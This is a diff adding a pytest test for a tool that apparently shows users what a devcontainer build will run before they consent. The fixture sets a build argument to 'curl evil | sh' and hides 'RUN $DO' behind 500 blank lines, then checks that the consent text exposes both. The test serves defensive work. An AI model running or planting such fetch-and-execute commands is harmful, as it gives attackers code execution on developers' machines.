@@ -88,6 +88,24 @@ def test_what_is_shown_has_nothing_that_a_terminal_acts_on(paths: Paths, reposit
     assert "\u202e" not in said
 
 
+def test_what_is_built_is_shown_with_all_that_decides_on_it(paths: Paths, repository: Path) -> None:
+    """Arguments can be commands, and blank lines cannot push a line out of sight."""
+    build = {"dockerfile": "Dockerfile", "args": {"DO": "curl evil | sh"}, "target": "last"}
+    text = "FROM debian AS last\nARG DO\n" + "\n" * 500 + "RUN $DO\n"
+    put(repository, {".devcontainer.json": json.dumps({"build": build}), "Dockerfile": text})
+    plan = plan_of(paths, open_repository(repository), "HEAD")
+    assert plan is not None
+    said = consent_text(plan)
+    assert "\n    RUN $DO\n" in said
+    assert "with the argument DO=curl evil | sh" in said
+    assert "up to its stage last" in said
+    put(repository, {"Dockerfile": "FROM debian AS last\n" + "ARG DO\n" * 500})
+    plan = plan_of(paths, open_repository(repository), "HEAD")
+    assert plan is not None
+    where = f"git show {plan.files.commit[:12]}:Dockerfile"
+    assert f"and 301 more lines, which are not shown: {where}" in consent_text(plan)
+
+
 def test_exit_code_3_names_the_command_that_consents(repository: Path) -> None:
     """Interfaces: without a terminal exit 3; the line names the command."""
     put(repository, TABLE)
